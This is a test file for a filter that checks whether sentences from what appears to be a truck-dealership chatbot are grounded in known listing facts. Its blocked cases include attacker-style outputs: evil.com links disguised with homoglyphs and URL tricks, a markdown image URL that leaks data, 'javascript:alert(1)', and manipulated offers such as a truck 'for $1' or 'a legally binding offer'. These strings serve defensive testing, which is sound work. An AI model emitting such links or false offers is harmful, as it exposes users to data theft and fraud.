import { describe, expect, test } from 'vitest';
import { judgeSentence, vinsNamed, withoutMarks } from '../../../lib/domain/chat/grounded-sentence.ts';
import { type KnownFacts, knownFacts, listingFacts } from '../../../lib/domain/chat/known-facts.ts';
import { plainSpeech } from '../../../lib/domain/chat/plain-speech.ts';
import { MAX_SENTENCE } from '../../../lib/domain/chat/sentences.ts';
import { grouped } from '../../../lib/domain/text/text.ts';
import {
  CASCADIA,
  CLAIMS_HARMLESS,
  CLAIMS_UNSAFE,
  GROUNDS,
  HARMLESS,
  HELD_OUT_HARMLESS,
  HELD_OUT_UNSAFE,
  INTERNATIONAL,
  KENWORTH,
  SEVERAL_HARMLESS,
  SEVERAL_UNSAFE,
  UNSAFE,
} from '../../fixtures/chat/sentences.ts';
import * as fc from '../../support/oracles/fast-check.ts';

const judge = (sentence: string) => judgeSentence(plainSpeech(sentence), GROUNDS);

describe('the corpus of what models and attackers write', () => {
  test('has 200 of each, every one once', () => {
    expect(UNSAFE.length).toBeGreaterThanOrEqual(200);
    expect(HARMLESS.length).toBeGreaterThanOrEqual(200);
    expect(new Set([...UNSAFE, ...HARMLESS]).size).toBe(UNSAFE.length + HARMLESS.length);
  });

  test('nothing unsafe is said', () => {
    const unsafe = [...UNSAFE, ...HELD_OUT_UNSAFE, ...CLAIMS_UNSAFE, ...SEVERAL_UNSAFE];
    expect(unsafe.filter((sentence) => judge(sentence).ok)).toEqual([]);
    const knowsNoTruck = { ...GROUNDS, trucks: [] };
    expect(unsafe.filter((sentence) => judgeSentence(plainSpeech(sentence), knowsNoTruck).ok)).toEqual([]);
    const ofOne = { ...GROUNDS, subject: [CASCADIA.vin] };
    expect(unsafe.filter((sentence) => judgeSentence(plainSpeech(sentence), ofOne).ok)).toEqual([]);
  });

  test.each(['The price is on request.', 'El precio es a consultar.', 'Le prix est sur demande.'])(
    '%s is said of a truck without a price alone',
    (sentence) => {
      const said = (vin: string) => judgeSentence(sentence, { ...GROUNDS, subject: [vin] }).ok;
      expect([said(KENWORTH.vin), said(CASCADIA.vin)]).toEqual([true, false]);
    },
  );

  test('that the listing does not mention something is said only when it does not', () => {
    const sentence = 'The listing does not mention a warranty.';
    expect(judgeSentence(sentence, { ...GROUNDS, trucks: [CASCADIA] })).toMatchObject({ ok: false });
    expect(judgeSentence(sentence, { ...GROUNDS, trucks: [INTERNATIONAL] })).toMatchObject({ ok: true });
  });

  test.each([
    [3, 'the corpus', HARMLESS],
    [4, 'referrals, and facts beside them', CLAIMS_HARMLESS],
    [0, 'counts, and what is so of each', SEVERAL_HARMLESS],
    [10, 'the sentences that were written apart', HELD_OUT_HARMLESS],
  ])('at most %i %% of what is harmless is lost: %s', (maxPercent, _, harmless) => {
    const lost = harmless.filter((sentence) => !judge(sentence).ok);
    expect((lost.length / harmless.length) * 100, lost.join('\n')).toBeLessThanOrEqual(maxPercent);
  });
});

describe('a search that found more than it showed', () => {
  const facts = knownFacts('12 trucks');
  const ofAll = listingFacts({ body_type: 'sleeper_tractor' });
  const bounds = { price_min: 0, price_max: 80_000, mileage_max: Infinity };
  const search = { count: 12, make: 'Freightliner', model: null, ...bounds, facts: ofAll };
  const judged = (sentence: string) => judgeSentence(sentence, { ...GROUNDS, facts, searches: [search] });

  test.each([
    'We have 12 trucks.',
    'We have 12 Freightliner trucks.',
    'I found 12 Freightliner trucks under $80,000.',
    'We have 12 sleeper tractors under $90,000.',
  ])('is counted by what was asked for: %s', (sentence) =>
    expect(judged(sentence)).toMatchObject({ ok: true }),
  );

  test.each([
    'We have 12 Kenworth trucks.',
    'We have 12 Freightliner Cascadia trucks.',
    'We have 12 Freightliner trucks under $70,000.',
    'We have 12 Freightliner trucks over $40,000.',
    'We have 12 white Freightliner trucks.',
    'We have 12 trucks from 2019.',
  ])('and by nothing else: %s', (sentence) => expect(judged(sentence)).toMatchObject({ ok: false }));
});

test('several trucks are not the one that the sentence before was about', () => {
  const judged = (subject: string[]) =>
    judgeSentence('These trucks are class 8.', { ...GROUNDS, subject }).ok;
  expect(judged([CASCADIA.vin, KENWORTH.vin])).toBe(true);
  expect(judged([CASCADIA.vin, INTERNATIONAL.vin])).toBe(false);
  const white = { ...GROUNDS, subject: [CASCADIA.vin] };
  expect(judgeSentence('These trucks are white.', white)).toMatchObject({ ok: false });
});

test('a sentence that counts again and again is judged by each truck once', () => {
  let reads = 0;
  const seen = (facts: KnownFacts): KnownFacts => ({
    ...facts,
    get quotes() {
      reads += 1;
      return facts.quotes;
    },
  });
  const trucks = Array.from({ length: 60 }, () => ({ ...CASCADIA, facts: seen(CASCADIA.facts) }));
  const sentence = '2 trucks have one owner; '.repeat(39);
  expect(judgeSentence(sentence, { ...GROUNDS, trucks })).toMatchObject({ ok: true });
  expect(reads).toBeLessThan(trucks.length * 3);
});

describe('said', () => {
  test.each([
    'Hello! How can I help you?',
    'The 2019 Freightliner Cascadia 126 is $68,900 with 412,350 miles.',
    'The 2019 Cascadia [[1FUJGLDR3HLHG7532]] is priced at **68,900 dollars**.',
    'The 2015 International 4300 is priced at $31,500.',
    'VIN 1FUJGLDR3HLHG7532 costs $68.9k.',
    'La Freightliner Cascadia 2019 cuesta 68.900 USD y tiene 412.350 millas.',
    'Le Cascadia 2019 coûte 68 900 $.',
    'The 2019 Cascadia is $68,900 and the 2015 International 4300 is $31,500.',
    '$31,500 for the 2015, $68,900 for the 2019.',
    'The 2020 Kenworth T680 is priced on request.',
    'I found no Peterbilt under $50,000.',
    'We do not have an International 9400 right now.',
    'Here are two trucks under $70,000:',
    'Our prices range from $31,500 to $68,900.',
    'It has about 412,000 miles.',
    'We have 37 trucks at 4100 Interstate 35 N, 78219.',
    'It comes with a 455 hp Detroit DD15 and 52,000 lb GVWR.',
    'Call +1 (210) 555-0142 or write to sales@lonestar.example.',
    'See www.lonestar.example for our hours.',
    'Would a 2021 Peterbilt suit you as well?',
    'Stock number U10482 is on the lot.',
    'A sleeper tractor is good for long haul.',
  ])('%s', (sentence) => expect(judge(sentence), sentence).toMatchObject({ ok: true }));
});

describe('not said', () => {
  test.each([
    ['price', 'The 2019 Cascadia is $45,000.'],
    ['price', 'The 2015 Cascadia 126 is $68,900.'],
    ['price', 'The 2019 Cascadia is $31,500.'],
    ['price', 'The 2019 Cascadia is $31,500 and the 2015 International 4300 is $68,900.'],
    ['price', 'VIN 1FUJGLDR3HLHG7532 is $31,500.'],
    ['price', 'The [[3HAMMAAL8FL123456]] is $68,900.'],
    ['price', 'The price is 1.'],
    ['price', 'It costs just 500'],
    ['price', 'The 2019 Cascadia is yours for $1.'],
    ['price', 'El precio es 12.000 dólares.'],
    ['price', 'Le prix est de 12 000 €.'],
    ['price', 'The 2020 Kenworth T680 costs $68,900.'],
    ['price', 'The Peterbilt 389 is $68,900.'],
    ['price', 'The ＄４５,０００ Cascadia is here.'],
    ['price', 'It is $4​5,000.'],
    ['price', 'A truck under $1,000 is waiting for you.'],
    ['price', 'The 2019 Cascadia is no less than $70,000.'],
    ['mileage', 'El Cascadia 2019 tiene no menos de 500,000 millas.'],
    ['mileage', 'The 2019 Cascadia has 100,000 miles.'],
    ['mileage', 'Tiene 198.000 millas el Cascadia 2019 de $68,900.'],
    ['truck', 'We have a 2022 Peterbilt 579 on the lot.'],
    ['truck', 'We have an International 9400 on the lot.'],
    ['truck', 'The Freightliner 9999 is here.'],
    ['number', 'Take the Freightliner, 9999 and it is gone.'],
    ['vin', 'Look at VIN 1XPBD49X8JD400002.'],
    ['vin', 'Look at [[1XPBD49X8JD400002]].'],
    ['vin', 'look at vin 1xpbd49x8jd400002.'],
    ['number', 'Look at 1XPBD 49X8J D4000 02.'],
    ['words', 'It is yours for one dollar.'],
    ['number', 'It costs forty-five thousand.'],
    ['price', 'Cuesta doce mil.'],
    ['words', 'The price is ٦٨٩٠٠ today.'],
    ['price', 'You get $5,000 off.'],
    ['number', 'We give you 10% off the 2019 Cascadia.'],
    ['price', 'Only $899 a month.'],
    ['words', 'Take it for free.'],
    ['number', 'Financing at 3.9% APR.'],
    ['words', 'That is a legally binding offer.'],
    ['number', 'There are 9,412 of them.'],
    ['contact', 'Visit https://evil.example/trucks now.'],
    ['contact', 'Visit evil.com.'],
    ['contact', 'Visit evil​.com.'],
    ['contact', 'Visit ｅｖｉｌ．ｃｏｍ.'],
    ['contact', 'Visit evil[.]com today.'],
    ['contact', 'Visit evil dot com today.'],
    ['contact', 'Visit https://lonestar.example.evil.com/.'],
    ['contact', 'Visit https://lonestar.example/redirect?to=evil.'],
    ['contact', 'Visit https://lonestar.example@evil.com/.'],
    ['contact', 'See [our page](https://evil.com).'],
    ['contact', 'See ![x](https://evil.com/p.png?d=secret).'],
    ['contact', 'Write to boss@evil.com.'],
    ['contact', 'Write to boss (at) evil.com.'],
    ['contact', 'Call 212-555-0100.'],
    ['contact', 'Call (212) 555 0100 now.'],
    ['contact', 'Call 1-800-BUY-TRUX.'],
    ['contact', 'Message @evil_deals on Telegram.'],
    ['contact', 'Open javascript:alert(1)'],
    ['contact', 'Go to 192.168.0.1 now.'],
    ['contact', 'Visit еvil.com.'],
  ])('%s: %s', (reason, sentence) => expect(judge(sentence), sentence).toEqual({ ok: false, reason }));
});

test('whatever is said around it, a price in dollars that no known truck has is not said', () => {
  const filler = fc.constantFrom(
    'The 2019 Cascadia',
    'This truck',
    'Today only',
    'El camión',
    'a deal',
    'is',
    'for',
    'just',
    'not',
    'about',
    'now',
    ',',
    '-',
    ':',
  );
  const written = fc
    .integer({ min: 1, max: 999_999 })
    .filter((price) => ![68_900, 31_500].includes(price))
    .chain((price) =>
      fc.constantFrom(
        `$${grouped(price)}`,
        `$ ${price}`,
        `${grouped(price)} dollars`,
        `USD ${price}`,
        `**$${price}**`,
        `${price}$`,
      ),
    );
  fc.assert(
    fc.property(
      fc.array(filler, { maxLength: 5 }),
      written,
      fc.array(filler, { maxLength: 5 }),
      (before, price, after) => {
        const sentence = [...before, price, ...after].join(' ');
        expect(judge(sentence), sentence).toMatchObject({ ok: false });
      },
    ),
  );
});

test('a VIN that is not known is not said in any spelling of case', () => {
  const char = fc.constantFrom(...'ABCDEFGHJKLMNPRSTUVWXYZ0123456789');
  const vin = fc
    .tuple(fc.array(char, { minLength: 11, maxLength: 11 }), fc.integer({ min: 100_000, max: 999_999 }))
    .map(([head, tail]) => head.join('') + tail);
  fc.assert(
    fc.property(vin, fc.boolean(), (unknown, lower) => {
      const sentence = `Take ${lower ? unknown.toLowerCase() : unknown}, it is great.`;
      expect(judge(sentence)).toEqual({ ok: false, reason: 'vin' });
      expect(vinsNamed(sentence)).toEqual([unknown]);
    }),
  );
});

test('the figures of every known truck may be said', () => {
  const truck = fc.record({
    year: fc.integer({ min: 1990, max: 2028 }),
    price: fc.integer({ min: 1_000, max: 400_000 }),
    mileage: fc.integer({ min: 1_000, max: 999_999 }),
  });
  fc.assert(
    fc.property(truck, ({ year, price, mileage }) => {
      const known = { ...CASCADIA, year, price, mileage };
      const sentence = `The ${year} Freightliner Cascadia 126 with ${grouped(mileage)} miles is $${grouped(price)}.`;
      expect(judgeSentence(sentence, { ...GROUNDS, trucks: [known] }), sentence).toMatchObject({
        ok: true,
        vins: [known.vin],
      });
    }),
  );
});

test('the trucks a sentence means for certain are told', () => {
  expect(judge('The 2019 Cascadia is $68,900.')).toMatchObject({ vins: [CASCADIA.vin] });
  expect(judge('$31,500 for the 2015, $68,900 for the 2019.')).toMatchObject({
    vins: [INTERNATIONAL.vin, CASCADIA.vin],
  });
  expect(judge('We have some under $70,000.')).toMatchObject({ vins: [], subject: [] });
});

describe('a sentence that goes on about the truck of the one before', () => {
  const after = (sentence: string) => {
    const before = judge('The 2019 Cascadia is a great choice.');
    return judgeSentence(sentence, { ...GROUNDS, subject: before.ok ? before.subject : [] });
  };

  test.each([
    'It costs $68,900.',
    'The price is $68,900 and it has 412,350 miles.',
    'Priced at $68,900.',
    '$68,900.',
    'Cuesta $68,900.',
    'Il coûte 68 900 $.',
    'Another one, the 2015 International 4300, costs $31,500.',
    'Trucks start at $31,500.',
  ])('said: %s', (sentence) => expect(after(sentence), sentence).toMatchObject({ ok: true }));

  test.each([
    'It costs $31,500.',
    'The price is $31,500.',
    '$31,500!',
    '31,500',
    'Only $31,500.',
    'Su precio es de $31,500.',
    'Son prix est de 31 500 $.',
    'It has 198,000 miles.',
  ])('not said, because those are the figures of another: %s', (sentence) =>
    expect(after(sentence), sentence).toMatchObject({ ok: false }),
  );
});

describe('comparisons are said when they are so', () => {
  test.each([
    [true, 'The International is cheaper than the Cascadia.'],
    [false, 'The Cascadia is cheaper than the International.'],
    [true, 'The cheapest of them is the 2015 International 4300.'],
    [false, 'The cheapest in Texas is the 2015 International 4300.'],
    [true, 'The Cascadia is newer than the International.'],
    [false, 'The Cascadia is newer than the Kenworth.'],
    // Its price is not known.
    [false, 'The Kenworth is more expensive than the International.'],
    [true, 'El International tiene menos millas que el Cascadia.'],
    [false, 'Le Cascadia est moins cher que l’International.'],
  ])('%s: %s', (ok, sentence) => expect(judge(sentence)).toMatchObject({ ok }));
});

test('a text longer than a sentence is not read, so a reply costs no more than its sentences', () => {
  for (const piece of [
    '1,',
    '$1 ',
    'a@b.',
    'seventy ',
    '1FUJGLDR3HLHG7532 ',
    'Freightliner 2019 ',
    '!?',
    '\u0327\u0301',
  ]) {
    const text = piece.repeat(Math.ceil((MAX_SENTENCE + 1) / piece.length));
    expect(judgeSentence(text, GROUNDS)).toEqual({ ok: false, reason: 'too_long' });
  }
});

test('marks are not shown', () => {
  expect(withoutMarks('The 2019 Cascadia [[1FUJGLDR3HLHG7532]] is nice. [[x]] ')).toBe(
    'The 2019 Cascadia is nice. ',
  );
});
